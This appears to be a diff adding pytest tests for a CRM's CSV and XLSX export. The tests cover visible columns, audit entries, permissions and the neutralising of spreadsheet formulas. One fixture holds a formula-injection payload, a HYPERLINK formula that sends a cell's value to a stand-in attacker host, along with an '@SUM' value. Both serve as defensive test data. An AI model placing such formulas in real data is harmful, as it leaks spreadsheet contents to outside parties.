@@ -1,0 +1,84 @@
+"""Exporting lists: visible columns only, audited, and safe to open in a spreadsheet."""
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from custos.accounts.models import Role
+from custos.audit.models import AuditEntry
+from custos.core.errors import PermissionDenied, ValidationFailed
+from custos.core.tenancy import tenant_scope
+from custos.crm.exports import export_records, neutralise
+from custos.crm.models import Contact
+from custos.crm.services.people import contact_create
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.fixture
+def contacts(cast):
+    actor = cast.actor(cast.alice)
+    with tenant_scope(cast.org_a):
+        contact_create(actor=actor, data={"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"})
+        contact_create(
+            actor=actor,
+            data={"first_name": HOSTILE, "last_name": "@SUM(1+1)", "notes": "x", "health_notes": "Asthma"},
+        )
+
+
+def _csv_rows(export):
+    text = b"".join(export.chunks).decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+
+
+def test_a_csv_export_has_the_visible_columns_and_neutralised_formulas(cast, contacts):
+    with tenant_scope(cast.org_a):
+        export = export_records(cast.actor(cast.alice), "contact", Contact.objects.order_by("id"), file_format="csv")
+    rows = _csv_rows(export)
+    assert rows[0][:4] == ["First name", "Last name", "Email", "Phone"]
+    assert rows[1][:3] == ["Ada", "Lovelace", "ada@example.org"]
+    assert rows[2][:2] == ["'" + HOSTILE, "'@SUM(1+1)"]
+    assert "Asthma" not in "".join(",".join(r) for r in rows)  # special category is never exported here
+    assert export.filename.endswith(".csv")
+
+
+def test_an_xlsx_export_writes_text_never_formulas(cast, contacts):
+    with tenant_scope(cast.org_a):
+        export = export_records(cast.actor(cast.alice), "contact", Contact.objects.order_by("id"), file_format="xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(export.chunks))).active
+    hostile = sheet.cell(row=3, column=1)
+    assert hostile.value == HOSTILE and hostile.data_type == "s"
+
+
+def test_hidden_fields_are_not_exported(cast, contacts):
+    with tenant_scope(cast.org_a):
+        Role.objects.filter(key="admin").update(hidden_fields=["contact.email"])
+        rows = _csv_rows(export_records(cast.actor(cast.alice), "contact", Contact.objects.all(), file_format="csv"))
+    assert "Email" not in rows[0]
+    assert "ada@example.org" not in "".join(",".join(r) for r in rows)
+
+
+def test_an_export_is_audited_with_count_and_columns_not_values(cast, contacts):
+    with tenant_scope(cast.org_a):
+        export_records(cast.actor(cast.alice), "contact", Contact.objects.all(), file_format="csv")
+        entry = AuditEntry.objects.filter(action="contact.export").get()
+    assert entry.extra == {"format": "csv", "count": 2}
+    assert "email" in entry.fields and "Ada" not in str(entry.extra)
+
+
+def test_exporting_needs_the_export_permission_and_a_known_format(cast, contacts):
+    with tenant_scope(cast.org_a):
+        with pytest.raises(PermissionDenied):
+            export_records(cast.actor(cast.sam), "contact", Contact.objects.all(), file_format="csv")
+        with pytest.raises(ValidationFailed):
+            export_records(cast.actor(cast.alice), "contact", Contact.objects.all(), file_format="pdf")
+        assert not AuditEntry.objects.filter(action="contact.export").exists()
+
+
+def test_neutralise_leaves_ordinary_text_alone():
+    assert neutralise("Müller") == "Müller"
+    assert neutralise("-5") == "'-5"
+    assert neutralise("+49 30") == "'+49 30"
